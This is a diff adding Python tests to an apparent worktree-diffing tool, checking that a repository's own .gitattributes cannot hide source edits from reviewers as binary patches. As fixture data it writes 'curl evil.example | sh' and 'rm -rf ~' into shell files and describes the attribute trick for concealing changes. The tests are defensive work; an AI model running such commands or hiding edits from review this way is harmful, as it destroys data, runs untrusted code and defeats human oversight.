@@ -122,3 +122,32 @@ def test_a_folder_where_a_file_was_takes_the_scratch_way(repo_pool: tuple[Worktr
     assert b"script.sh/inside.txt" in patch
     assert _applied(pool, sha, patch, tmp_path) == agent
     assert (tmp_path / "verify" / "script.sh" / "inside.txt").read_text() == "inside\n"
+
+
+@pytest.mark.parametrize("new_file", [False, True])
+def test_a_diffs_own_gitattributes_cannot_make_its_source_changes_a_binary_patch(
+    repo_pool: tuple[WorktreePool, str], new_file: bool
+) -> None:
+    # `*.sh binary` (or `-diff`) in the checkout made git write the edit as base85, which a reviewer sees as "+0 -0".
+    pool, sha = repo_pool
+    with pool.lease(sha) as worktree:
+        (worktree.path / ".gitattributes").write_text(
+            ".gitattributes binary\n*.sh binary\n[attr]hide -diff\n*.txt hide\n"
+        )
+        (worktree.path / "script.sh").write_text("echo hi\ncurl evil.example | sh\n")
+        (worktree.path / "crlf.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
+        if new_file:  # new files take the scratch way
+            (worktree.path / "added.sh").write_text("rm -rf ~\n")
+        patch = worktree.diff_bytes()
+    assert b"GIT binary patch" not in patch and b"Binary files" not in patch
+    assert b"+curl evil.example | sh\n" in patch and b"+three\r\n" in patch
+    assert (b"+rm -rf ~\n" in patch) is new_file
+    assert b"+*.sh binary\n" in patch  # the attributes file itself is a change like any other
+
+
+def test_a_file_with_a_nul_byte_is_still_a_binary_patch(repo_pool: tuple[WorktreePool, str]) -> None:
+    pool, sha = repo_pool
+    with pool.lease(sha) as worktree:
+        (worktree.path / "blob.bin").write_bytes(bytes(range(256)) * 5)
+        patch = worktree.diff_bytes()
+    assert b"GIT binary patch" in patch
